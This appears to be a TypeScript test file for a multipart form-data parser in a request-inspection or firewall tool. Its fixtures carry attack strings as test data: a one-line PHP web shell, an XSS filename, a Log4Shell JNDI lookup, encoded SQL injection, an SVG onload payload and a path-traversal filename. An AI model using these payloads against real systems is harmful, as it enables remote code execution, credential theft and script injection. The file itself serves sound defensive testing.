import { describe, expect, test } from "bun:test";
import { addMultipartLeaves, boundaryOf, decodeQuotedPrintable, dispositionParam, parseMultipart, sniffBoundary } from "../../../src/decompose/body/multipart.ts";
import { leafAt, sink } from "../fixtures.ts";

const BODY = [
  "------WebKitFormBoundaryX",
  'Content-Disposition: form-data; name="title"',
  "",
  "hello",
  "world",
  "------WebKitFormBoundaryX",
  'Content-Disposition: form-data; name="upload"; filename="<script>alert(1)</script>.php"',
  "Content-Type: image/png; x=${jndi:ldap://e/a}",
  "",
  "<?php system($_GET['c']); ?>",
  "------WebKitFormBoundaryX--",
  "",
].join("\r\n");

describe("multipart", () => {
  test("the boundary from Content-Type (quoted or not) or from the body's first line", () => {
    expect(boundaryOf("multipart/form-data; boundary=----WebKitFormBoundaryX")).toBe("----WebKitFormBoundaryX");
    expect(boundaryOf('multipart/form-data; charset=utf-8; boundary="a b"')).toBe("a b");
    expect(boundaryOf("multipart/form-data")).toBeNull();
    expect(sniffBoundary(BODY)).toBe("----WebKitFormBoundaryX");
    expect(sniffBoundary("--\r\n")).toBeNull();
  });

  test("parts: name, filename, own headers and value (line breaks inside a value kept)", () => {
    const { parts, closed } = parseMultipart(BODY, "----WebKitFormBoundaryX");
    expect(closed).toBe(true);
    expect(parts.map((p) => [p.name, p.filename, p.value])).toEqual([
      ["title", null, "hello\r\nworld"],
      ["upload", "<script>alert(1)</script>.php", "<?php system($_GET['c']); ?>"],
    ]);
    expect(parts[1]!.headers[1]).toEqual(["content-type", "image/png; x=${jndi:ldap://e/a}"]);
  });

  test("leaves: value, filename (kind filename) and part headers (kind part-header)", () => {
    const s = sink();
    expect(addMultipartLeaves(s, BODY, "----WebKitFormBoundaryX")).toEqual({ parsed: true, closed: true });
    expect(leafAt(s.leaves, "body.multipart.title")).toMatchObject({ location: "body", name: "title", text: "hello\r\nworld", kind: "value" });
    expect(leafAt(s.leaves, "body.multipart.upload.filename", "filename").text).toBe("<script>alert(1)</script>.php");
    expect(leafAt(s.leaves, "body.multipart.upload.header.content-type", "part-header").text).toBe("image/png; x=${jndi:ldap://e/a}");
    expect(leafAt(s.leaves, "body.multipart.upload").text).toBe("<?php system($_GET['c']); ?>");
  });

  test("a part in quoted-printable is also read decoded: `=XX` bytes, soft line breaks, UTF-8", () => {
    expect(decodeQuotedPrintable("=27=20UNION=20SELECT pass=\r\nword FROM users-- caf=C3=A9 a=b =zz")).toBe("' UNION SELECT password FROM users-- café a=b =zz");
    // A soft break with the blanks a mailer left before it, and a bare CR or LF; characters beyond ASCII kept whole.
    expect(decodeQuotedPrintable("1 UNI= \r\nON SEL=\t\r\nECT pass=\rword FR=\nOM users")).toBe("1 UNION SELECT password FROM users");
    expect(decodeQuotedPrintable("a😀b é")).toBe("a😀b é");
    const body = ["--B", 'Content-Disposition: form-data; name="q"', "Content-Transfer-Encoding: quoted-printable", "", "=3Csvg onload=3Dalert(1)=3E", "--B", 'Content-Disposition: form-data; name="plain"', "", "a=3Cb", "--B--", ""].join("\r\n");
    const s = sink();
    addMultipartLeaves(s, body, "B");
    expect(leafAt(s.leaves, "body.multipart.q~quoted-printable")).toMatchObject({ text: "<svg onload=alert(1)>", encodings: ["quoted-printable"] });
    expect(s.leaves.some((l) => l.path === "body.multipart.plain~quoted-printable")).toBe(false);
    const quoted = sink();
    addMultipartLeaves(quoted, body.replace("Transfer-Encoding: quoted-printable", 'Transfer-Encoding: "Quoted-Printable"'), "B");
    expect(leafAt(quoted.leaves, "body.multipart.q~quoted-printable").text).toBe("<svg onload=alert(1)>");
  });

  test("Content-Disposition parameters: escapes in quotes, bare tokens, filename* wins", () => {
    expect(dispositionParam('form-data; name="a\\"b"; filename=x.txt', "name")).toBe('a"b');
    expect(dispositionParam('form-data; name="a"; filename=x.txt', "filename")).toBe("x.txt");
    expect(dispositionParam("form-data; filename=\"a.txt\"; filename*=UTF-8''%3Cx%3E.txt", "filename")).toBe("<x>.txt");
    expect(dispositionParam("form-data; name", "name")).toBeNull();
    // filename* is percent-decoded as the rest of the request: Latin-1 bytes and a stray `%` do not leave it encoded
    expect(dispositionParam("form-data; filename*=ISO-8859-1''%E9t%E9 100%..%2F.txt", "filename")).toBe("été 100%../.txt");
  });

  test("malformed: no closing delimiter, missing headers, a boundary inside a line", () => {
    const unclosed = '--b\r\nContent-Disposition: form-data; name="a"\r\n\r\n1 --b not a delimiter\r\n--b\r\nno header blank line';
    const { parts, closed } = parseMultipart(unclosed, "b");
    expect(closed).toBe(false);
    expect(parts[0]!.value).toBe("1 --b not a delimiter");
    expect(parts[1]!.headers).toEqual([]);
    expect(parseMultipart("no delimiter here", "b").parts).toEqual([]);
  });
});
